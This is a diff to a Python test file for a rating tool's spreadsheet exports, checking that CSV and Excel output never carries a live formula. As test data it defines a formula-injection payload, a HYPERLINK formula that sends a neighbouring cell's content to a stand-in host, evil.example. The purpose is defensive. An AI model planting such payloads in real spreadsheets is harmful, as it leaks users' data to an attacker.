@@ -1,10 +1,12 @@
-"""Every CSV Palier writes, read back as a spreadsheet would: no formula, one row per record.
+"""Every file Palier writes for a spreadsheet, read back as one would: no formula, one row
+per record.
 
 Alice is named like a formula and logs evidence full of line breaks, quotes and a
-``=HYPERLINK(…)``; Chloé, her manager, exports from Slack; an operator exports
-from the command line; a manager of a large team gets the team CSV. Python's
+``=HYPERLINK(…)``; Chloé, her manager, exports from Slack (an Excel workbook: every
+cell a string, never a formula); an operator exports from the command line (CSV with a
+BOM and, in French, ``;``); a manager of a large team gets the team CSV. Python's
 ``csv`` reader must find exactly one row per rating (or per report × competency)
-and no cell may start with a character a spreadsheet evaluates.
+and no CSV cell may start with a character a spreadsheet evaluates.
 """
 
 from __future__ import annotations
@@ -17,12 +19,13 @@ from pathlib import Path
 import pytest
 from sqlalchemy import func, select
 
-from bot.domain.csv_safe import csv_text, data_rows, safe_cell
+from bot.domain.csv_safe import BOM, csv_text, data_rows, safe_cell
 from bot.domain.text import clean_text
 from handlers.cli import main
 from referentiels.loader import ReferentielCatalog
 from storage.models import Person, Rating, Role
 from tests.slack.conftest import ALICE, CHLOE, World
+from tests.spreadsheets import csv_rows, export_records, xlsx_cells, xlsx_rows
 
 THURSDAY_1600_PARIS = datetime(2026, 11, 26, 15, 0, tzinfo=UTC)
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B2, "Alice")'
@@ -36,7 +39,8 @@ COMPETENCIES = [c.id for c in _AE.all_competencies()]
 
 def _rows(content: bytes | str | None) -> list[list[str]]:
     text = content.decode() if isinstance(content, bytes) else content or ""
-    return list(csv.reader(io.StringIO(text, newline="")))
+    assert text.startswith(BOM)  # so that Excel reads it as UTF-8
+    return csv_rows(text, ";")  # French: Excel in France splits on semicolons
 
 
 def _no_formula(rows: list[list[str]]) -> None:
@@ -76,15 +80,17 @@ def test_slack_export_has_one_row_per_rating_and_no_formula(world: World) -> Non
     _alice_checks_in_with_evil_evidence(world)
     world.driver.slash_command(CHLOE, "/palier", "export")
     [file] = world.emulator.wait_for(lambda: world.emulator.files or None)
-    rows = _rows(file.content)
-    header, body = rows[0], rows[1:]
-    assert len(body) == _ratings(world)
-    _no_formula(rows)
-    records = [dict(zip(header, row, strict=True)) for row in body]
-    assert {r["person"] for r in records} == {"'" + FORMULA_NAME}
+    assert file.content is not None and b"<f>" not in file.content  # no formula element
+    cells = xlsx_cells(file.content)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    records = export_records(xlsx_rows(file.content), "fr", "Asia/Kolkata")
+    assert len(records) == _ratings(world)
+    # Text cells, as typed: a workbook shows a string as a string, no quote needed.
+    assert {r["person"] for r in records} == {FORMULA_NAME}
+    assert {c.data_type for c in cells if c.value == FORMULA_NAME} == {"s"}
     evidence = [r["evidence"] for r in records if r["evidence"]]
     # Whole, line breaks included (stored as newlines: bot/text.py).
-    assert sorted(evidence) == sorted(["'" + clean_text(EVIL_EVIDENCE), clean_text(CR_ONLY)])
+    assert sorted(evidence) == sorted([clean_text(EVIL_EVIDENCE), clean_text(CR_ONLY)])
 
 
 def test_command_line_export_has_one_row_per_rating_and_no_formula(
@@ -99,9 +105,14 @@ def test_command_line_export_has_one_row_per_rating_and_no_formula(
     _no_formula(rows)
     target = str(tmp_path / "export.csv")
     assert main(["export", "--output", target], out=out, err=err) == 0
-    with open(target, encoding="utf-8", newline="") as written:
-        assert len(list(csv.reader(written))) - 1 == _ratings(world)
+    with open(target, encoding="utf-8-sig", newline="") as written:
+        assert len(list(csv.reader(written, delimiter=";"))) - 1 == _ratings(world)
     assert err.getvalue().endswith(f" : {_ratings(world)} ligne(s) écrite(s)\n")
+    book = str(tmp_path / "export.xlsx")
+    assert main(["export", "--format", "xlsx", "--output", book], out=out, err=err) == 0
+    with open(book, "rb") as written:
+        content = written.read()
+    assert len(xlsx_rows(content)) - 1 == _ratings(world) and b"<f>" not in content
 
 
 def test_team_csv_of_a_large_team_has_no_formula(world: World) -> None:
@@ -131,5 +142,5 @@ def test_the_rule_itself() -> None:
     assert safe_cell("＝1+1") == "'＝1+1" and safe_cell(None) == "" and safe_cell(3) == "3"
     assert safe_cell("Alice = Bob") == "Alice = Bob"
     text = csv_text(["a", "b"], [["x\ry", "=1"], ["z", 'w"\n']])
-    assert _rows(text) == [["a", "b"], ["x\ry", "'=1"], ["z", 'w"\n']]
+    assert csv_rows(text, ",") == [["a", "b"], ["x\ry", "'=1"], ["z", 'w"\n']]
     assert data_rows(text) == 2
